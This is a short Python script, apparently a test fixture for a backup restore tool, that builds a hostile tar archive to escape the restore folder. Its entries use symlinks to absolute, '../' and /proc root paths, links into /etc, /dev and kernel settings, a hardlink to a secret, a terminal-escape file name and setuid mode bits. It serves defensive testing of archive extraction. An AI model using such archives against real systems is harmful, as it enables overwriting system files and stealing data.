"""evil-tar.py TAR VICTIM REPOSITORY: what a hostile VPS could put into an archive to lead a restore out of its folder."""

import io
import os
import sys
import tarfile

tar, victim, repository = sys.argv[1:]

with tarfile.open(tar, "w", format=tarfile.PAX_FORMAT) as archive:

    def add(name, kind=tarfile.REGTYPE, to="", data=b""):
        member = tarfile.TarInfo(name)
        member.type, member.linkname, member.size, member.mode = kind, to, len(data), 0o4755
        archive.addfile(member, io.BytesIO(data))

    ways = {
        "absolute": victim,
        "upwards": "../" * 20 + victim.lstrip("/"),
        "first-process": f"/proc/1/root{victim}",
        "test-process": f"/proc/{os.getppid()}/root{victim}",
        "own-root": f"/proc/self/root{victim}",
        "old-root": f"/old{victim}",
        "repository": f"{repository}/data/0",
        "kernel": "/proc/sys/kernel",
        "devices": "/dev",
        "etc": "/etc",
    }
    for name, to in ways.items():
        add(name, tarfile.SYMTYPE, to)
        add(f"{name}/evil-{name}", data=b"evil\n")
    add("absolute/secret", data=b"overwritten\n")
    add("absolute/pipe", data=b"words for whoever reads the pipe\n")
    add("stolen", tarfile.LNKTYPE, "absolute/secret")
    add("absolute/\x1b]0;title\x07\x1b[2J", data=b"evil\n")
    add("harmless", data=b"as it should be\n")
